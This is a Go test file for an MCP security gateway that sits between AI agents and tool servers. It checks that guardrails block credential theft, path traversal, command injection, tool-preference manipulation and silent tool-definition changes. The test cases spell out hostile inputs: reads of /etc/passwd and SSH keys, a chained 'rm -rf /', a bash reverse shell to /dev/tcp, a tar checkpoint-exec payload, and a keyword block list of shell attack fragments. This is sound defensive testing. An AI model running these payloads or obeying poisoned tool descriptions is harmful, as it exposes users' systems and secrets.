@@ -1,0 +1,327 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"secure-mcp-gateway/examples"
+	"secure-mcp-gateway/guard"
+	"secure-mcp-gateway/internal/config"
+	"secure-mcp-gateway/proxy"
+)
+
+// withPolicies puts input, output and tool policies blocking the named
+// offline detectors on s; a nil list leaves that policy off.
+func withPolicies(s *config.Server, input, output, tool []string, extra map[string]any) *config.Server {
+	if input != nil {
+		s.InputGuardrailsPolicy = &config.Policy{Enabled: true, Block: input, AdditionalConfig: extra}
+	}
+	if output != nil {
+		s.OutputGuardrailsPolicy = &config.Policy{Enabled: true, Block: output, AdditionalConfig: extra}
+	}
+	if tool != nil {
+		s.ToolGuardrailsPolicy = &config.Policy{Enabled: true, Block: tool}
+	}
+	return s
+}
+
+// hostileCase is one call through the gateway and what must come back.
+type hostileCase struct {
+	tool string
+	args map[string]any
+	// want are substrings of the result text; with blocked, the result must
+	// be an error.
+	want    []string
+	blocked bool
+}
+
+// runHostileCases makes every call and checks its result; it returns every
+// result text for canary checks.
+func runHostileCases(t *testing.T, g *gateway, cases []hostileCase) []string {
+	t.Helper()
+	var texts []string
+	for _, c := range cases {
+		r := g.call(t, c.tool, c.args)
+		txt := resultText(r)
+		texts = append(texts, txt)
+		if r.IsError != c.blocked {
+			t.Errorf("%s %v: isError=%v, want %v: %q", c.tool, c.args, r.IsError, c.blocked, txt)
+		}
+		for _, w := range c.want {
+			if !strings.Contains(txt, w) {
+				t.Errorf("%s %v = %q, want it to contain %q", c.tool, c.args, txt, w)
+			}
+		}
+	}
+	return texts
+}
+
+// assertListed checks which prefixed tools tools/list shows and which it
+// withholds; a withheld tool must also be refused when called.
+func assertListed(t *testing.T, g *gateway, listed, withheld []string) {
+	t.Helper()
+	names := g.toolNames(t)
+	for _, n := range listed {
+		if !contains(names, n) {
+			t.Errorf("tool %s missing from %v", n, names)
+		}
+	}
+	for _, n := range withheld {
+		if contains(names, n) {
+			t.Errorf("tool %s listed, want it withheld", n)
+		}
+		if r := g.call(t, n, map[string]any{}); !r.IsError || !strings.Contains(resultText(r), "withheld") {
+			t.Errorf("call to withheld %s: isError=%v %q", n, r.IsError, resultText(r))
+		}
+	}
+}
+
+// assertNoCanary stops the gateway and checks that none of the canaries
+// appears in texts, the gateway's stderr or the pin file.
+func assertNoCanary(t *testing.T, f *fixture, g *gateway, texts []string, canaries []string) {
+	t.Helper()
+	g.cs.Close()
+	g.cmd.Wait()
+	pins, _ := os.ReadFile(filepath.Join(f.dir, guard.PinFileName))
+	where := map[string]string{"stderr": g.stderr.String(), "pin file": string(pins), "tool results": strings.Join(texts, "\n")}
+	for what, text := range where {
+		for _, s := range canaries {
+			if strings.Contains(text, s) {
+				t.Errorf("%s contains the canary %q", what, s)
+			}
+		}
+	}
+}
+
+func TestGuardCredentialTheft(t *testing.T) {
+	detectors := []string{"secrets", "injection_attack", "hidden_text"}
+	f := newFixture(t, withPolicies(exampleServer("cred", "credential_theft", nil), detectors, detectors, detectors, nil))
+	g := startGateway(t, f)
+	// The descriptions are innocent: nothing is withheld; the outputs are
+	// where the credentials are.
+	assertListed(t, g, []string{"cred__get_environment_info", "cred__export_logs", "cred__backup_configuration",
+		"cred__test_api_connection", "cred__share_workspace", "cred__debug_authentication"}, nil)
+	out := func(rules string) []string {
+		return []string{`blocked by output guardrails: secrets (` + rules, "the result was withheld"}
+	}
+	texts := runHostileCases(t, g, []hostileCase{
+		{"cred__get_environment_info", nil, out("aws_access_key_id, aws_secret_access_key, github_token, stripe_key, url_credentials)"), true},
+		{"cred__export_logs", map[string]any{"log_type": "all", "remote_url": "https://logs.example.net/upload"}, out("jwt, password_assignment)"), true},
+		{"cred__backup_configuration", map[string]any{"destination": "local"}, out("slack_token, stripe_key)"), true},
+		{"cred__test_api_connection", map[string]any{"api_endpoint": "https://api.example.net/v1"}, out("jwt, password_assignment)"), true},
+		{"cred__share_workspace", map[string]any{"email": "colleague@example.net"}, out("password_assignment)"), true},
+		{"cred__debug_authentication", nil, out("aws_access_key_id, jwt, private_key)"), true},
+		// A secret in the arguments never reaches the upstream.
+		{"cred__test_api_connection", map[string]any{"api_endpoint": "https://x.example.net/?token=" + examples.FakeSecrets()[4]},
+			[]string{"blocked by input guardrails: secrets (", "the arguments were not forwarded"}, true},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), f.key))
+}
+
+func TestGuardPathTraversal(t *testing.T) {
+	detectors := []string{"secrets", "tool_poisoning", "injection_attack"}
+	f := newFixture(t, withPolicies(exampleServer("fs", "path_traversal", nil), detectors, detectors, []string{"injection_attack", "hidden_text"}, nil))
+	g := startGateway(t, f)
+	assertListed(t, g, []string{"fs__read_file", "fs__list_directory", "fs__copy_file", "fs__extract_archive", "fs__create_symlink"}, nil)
+	in := []string{"blocked by input guardrails: tool_poisoning (sensitive_path)", "the arguments were not forwarded"}
+	texts := runHostileCases(t, g, []hostileCase{
+		// Paths to sensitive files are refused before the upstream sees them.
+		{"fs__read_file", map[string]any{"file_path": "/etc/passwd"}, in, true},
+		{"fs__read_file", map[string]any{"file_path": "../../.ssh/id_rsa"}, in, true},
+		{"fs__copy_file", map[string]any{"source": "/etc/shadow", "destination": "out.txt"}, in, true},
+		{"fs__create_symlink", map[string]any{"target": "/home/u/.aws/credentials", "link_name": "creds"}, in, true},
+		// A traversal to a file with an unremarkable name passes the input
+		// check; what it "reads" holds a password and is withheld.
+		{"fs__read_file", map[string]any{"file_path": "../../../srv/app/settings.ini"},
+			[]string{"blocked by output guardrails: secrets (password_assignment)", "the result was withheld"}, true},
+		// Listings and archive entries naming sensitive files are withheld.
+		{"fs__list_directory", map[string]any{"directory": "home"}, []string{"blocked by output guardrails: tool_poisoning (sensitive_path)"}, true},
+		{"fs__extract_archive", map[string]any{"archive_path": "upload.zip"}, []string{"blocked by output guardrails: tool_poisoning (sensitive_path)"}, true},
+		// Ordinary use still works.
+		{"fs__read_file", map[string]any{"file_path": "notes/todo.txt"}, []string{"Contents of notes/todo.txt:\nhello"}, false},
+		{"fs__copy_file", map[string]any{"source": "a.txt", "destination": "b.txt"}, []string{"Copied a.txt to b.txt"}, false},
+	})
+	assertNoCanary(t, f, g, texts, append(examples.FakeSecrets(), "root:x:0:0", f.key))
+}
+
+func TestGuardCommandInjection(t *testing.T) {
+	// No built-in detector knows shell syntax: the policy lists the payload
+	// fragments this deployment refuses as keywords.
+	keywords := map[string]any{"keywords": []any{"rm -rf", "/dev/tcp", "nc -e", "mkfifo", "| bash", "--checkpoint-action", "--run-script"}}
+	f := newFixture(t, withPolicies(exampleServer("sh", "command_injection", nil),
+		[]string{"keyword_detector", "injection_attack"}, []string{"keyword_detector", "injection_attack"}, []string{"injection_attack", "hidden_text"}, keywords))
+	g := startGateway(t, f)
+	tools := []string{"sh__ping_host", "sh__convert_image", "sh__search_files", "sh__run_analysis", "sh__compress_logs", "sh__generate_pdf"}
+	assertListed(t, g, tools, nil)
+	out := []string{"blocked by output guardrails: keyword_detector (keyword)", "the result was withheld"}
+	in := []string{"blocked by input guardrails: keyword_detector (keyword)", "the arguments were not forwarded"}
+	texts := runHostileCases(t, g, []hostileCase{
+		// Payloads in the arguments are refused before the upstream runs.
+		{"sh__ping_host", map[string]any{"hostname": "example.com; rm -rf /"}, in, true},
+		{"sh__run_analysis", map[string]any{"script_name": "a.py", "args": "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, in, true},
+		{"sh__compress_logs", map[string]any{"log_path": "app.log", "compression_type": "gz --checkpoint-action=exec=sh x.sh"}, in, true},
+		// Outputs echoing payloads and reverse shells are withheld.
+		{"sh__ping_host", map[string]any{"hostname": "example.com"}, out, true},
+		{"sh__convert_image", map[string]any{"input_file": "a.png", "output_format": "jpeg"}, out, true},
+		{"sh__search_files", map[string]any{"pattern": "TODO", "directory": "."}, out, true},
+		{"sh__run_analysis", map[string]any{"script_name": "a.py"}, out, true},
+		{"sh__compress_logs", map[string]any{"log_path": "app.log"}, out, true},
+		{"sh__generate_pdf", map[string]any{"input_file": "a.html"}, out, true},
+	})
+	assertNoCanary(t, f, g, texts, []string{"/dev/tcp/10.0.0.1", "rm -rf /", "mkfifo /tmp/f", f.key})
+}
+
+func TestGuardPreferenceManipulation(t *testing.T) {
+	f := newFixture(t, withPolicies(exampleServer("pm", "mpma", nil),
+		[]string{"injection_attack"}, []string{"injection_attack", "tool_poisoning"}, []string{"injection_attack", "hidden_text"}, nil))
+	g := startGateway(t, f)
+	// elite_search_engine only claims authority and social proof, with no
+	// imperative about other tools: the offline rules do not flag it.
+	assertListed(t, g, []string{"pm__basic_weather", "pm__elite_search_engine"},
+		[]string{"pm__premium_weather_lookup", "pm__calculate_premium", "pm__urgent_time_service", "pm__must_use_converter", "pm__ultimate_best_tool"})
+	runHostileCases(t, g, []hostileCase{
+		{"pm__basic_weather", map[string]any{"location": "Oslo"}, []string{"Cloudy in Oslo."}, false},
+	})
+	g.cs.Close()
+	g.cmd.Wait()
+	// The log gives the reason: the rule that fired, per tool.
+	for _, tool := range []string{"premium_weather_lookup", "must_use_converter", "ultimate_best_tool"} {
+		if !logHas(g.stderr.String(), tool, "preference_manipulation") {
+			t.Errorf("no log line names the preference_manipulation finding of %s", tool)
+		}
+	}
+}
+
+// logHas reports whether some JSON log line mentions tool and rule.
+func logHas(log, tool, rule string) bool {
+	for line := range strings.Lines(log) {
+		var m map[string]any
+		if json.Unmarshal([]byte(line), &m) == nil && strings.Contains(line, `"`+tool+`"`) && strings.Contains(line, rule) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestGuardQuietRugPull(t *testing.T) {
+	state := filepath.Join(t.TempDir(), "quiet.state")
+	f := newFixture(t, exampleServer("qr", "quiet_rugpull", map[string]string{examples.EnvQuietRugPullState: state}))
+	g := startGateway(t, f)
+	if names := g.toolNames(t); !contains(names, "qr__fetch_page") || !contains(names, "qr__get_time") {
+		t.Fatalf("tools at first = %v", names)
+	}
+	if r := g.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"}); r.IsError {
+		t.Fatalf("first call: %s", resultText(r))
+	}
+	// The upstream has silently changed (it serves the new definition from
+	// its second listing on) but sent no list_changed: this gateway has no
+	// reason to list it again, and the definition it pinned is unchanged.
+	if _, err := os.Stat(state); err != nil {
+		t.Fatalf("the upstream did not record its rug pull: %v", err)
+	}
+	g.cs.Close()
+	g.cmd.Wait()
+
+	// The next discovery sees the changed definition and withholds it. A
+	// new gateway process on the same config answers tools/list from the
+	// discovery cache and lists the upstream live once it starts: here for
+	// a call of the unchanged tool, which keeps working.
+	g2 := startGateway(t, f)
+	if r := g2.call(t, "qr__get_time", nil); r.IsError || resultText(r) != "12:00 UTC" {
+		t.Errorf("unchanged tool: isError=%v %q", r.IsError, resultText(r))
+	}
+	waitFor(t, 20e9, "the changed tool to be withheld", func() bool { return !contains(g2.toolNames(t), "qr__fetch_page") })
+	r := g2.call(t, "qr__fetch_page", map[string]any{"url": "https://example.com"})
+	for _, want := range []string{"definition changed since it was pinned", "secure-mcp-gateway tools diff --server qr --tool fetch_page", "tools approve --server qr --tool fetch_page"} {
+		if !r.IsError || !strings.Contains(resultText(r), want) {
+			t.Errorf("call after the quiet rug pull: isError=%v %q, want %q", r.IsError, resultText(r), want)
+		}
+	}
+	if r := g2.call(t, "qr__get_time", nil); r.IsError || resultText(r) != "12:00 UTC" {
+		t.Errorf("unchanged tool after the rug pull was caught: isError=%v %q", r.IsError, resultText(r))
+	}
+	g2.cs.Close()
+	g2.cmd.Wait()
+
+	diff := runCLI(t, "--config", f.path, "tools", "diff", "--server", "qr", "--tool", "fetch_page")
+	if !strings.Contains(diff, "description") || !strings.Contains(diff, "headers") {
+		t.Errorf("tools diff does not show the changed description and schema:\n%s", diff)
+	}
+}
+
+// TestGuardQuietRugPullSameSession forces a second discovery inside one
+// gateway session through the meta-tools (clear the server's cached tools,
+// discover it again): the same upstream session now lists the changed
+// definition, and the gateway withholds it at once.
+func TestGuardQuietRugPullSameSession(t *testing.T) {
+	f := newFixture(t, exampleServer("qr", "quiet_rugpull", nil))
+	f.cfg.Common.ToolExposure = config.ToolExposureMeta
+	f.save(t)
+	g := startGateway(t, f)
+	discovered := func() (tools, blocked []string, m map[string]any) {
+		m = metaJSON(t, g, proxy.MetaDiscoverAllTools, map[string]any{"server_name": "qr"})
+		for i := range 10 {
+			if n, ok := path(m, "tools", i, "name").(string); ok {
+				tools = append(tools, n)
+			}
+		}
+		b, _ := json.Marshal(m["blocked_tools"])
+		for _, n := range []string{"fetch_page", "get_time"} {
+			if strings.Contains(string(b), n) {
+				blocked = append(blocked, n)
+			}
+		}
+		return tools, blocked, m
+	}
+	tools, blocked, m := discovered()
+	slices.Sort(tools)
+	if !slices.Equal(tools, []string{"fetch_page", "get_time"}) || len(blocked) != 0 {
+		t.Fatalf("first discovery: %v", m)
+	}
+	if m := metaJSON(t, g, proxy.MetaClearCache, map[string]any{"server_name": "qr"}); m["status"] == "error" {
+		t.Fatalf("clear cache: %v", m)
+	}
+	tools, blocked, m = discovered()
+	if !slices.Equal(tools, []string{"get_time"}) || !slices.Equal(blocked, []string{"fetch_page"}) {
+		t.Fatalf("second discovery in the same session: %v", m)
+	}
+	b, _ := json.Marshal(m["blocked_reasons"])
+	if !strings.Contains(string(b), "tools approve --server qr --tool fetch_page") {
+		t.Errorf("blocked reason does not give the approve hint: %s", b)
+	}
+	r := g.call(t, proxy.MetaSecureCallTools, map[string]any{"server_name": "qr", "tool_calls": []any{
+		map[string]any{"name": "fetch_page", "args": map[string]any{"url": "https://example.com"}}}})
+	if txt := resultText(r); strings.Contains(txt, "<html>") || !strings.Contains(txt, "tools approve --server qr --tool fetch_page") {
+		t.Errorf("call of the changed tool: %s", txt)
+	}
+}
+
+// TestExampleServerList checks that `example-server --list` prints every
+// bundled example with its description.
+func TestExampleServerList(t *testing.T) {
+	out := runCLI(t, "example-server", "--list")
+	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
+	if len(lines) != len(examples.Names()) {
+		t.Errorf("--list printed %d lines for %d examples:\n%s", len(lines), len(examples.Names()), out)
+	}
+	for _, name := range examples.Names() {
+		found := false
+		for _, l := range lines {
+			if f := strings.Fields(l); len(f) > 1 && f[0] == name && strings.Contains(l, examples.Describe(name)) {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("--list has no line for %s with its description %q:\n%s", name, examples.Describe(name), out)
+		}
+	}
+	for _, name := range []string{"credential_theft", "path_traversal", "command_injection", "mpma", "quiet_rugpull"} {
+		if !slices.Contains(examples.Names(), name) {
+			t.Errorf("example %s is not registered", name)
+		}
+	}
+}
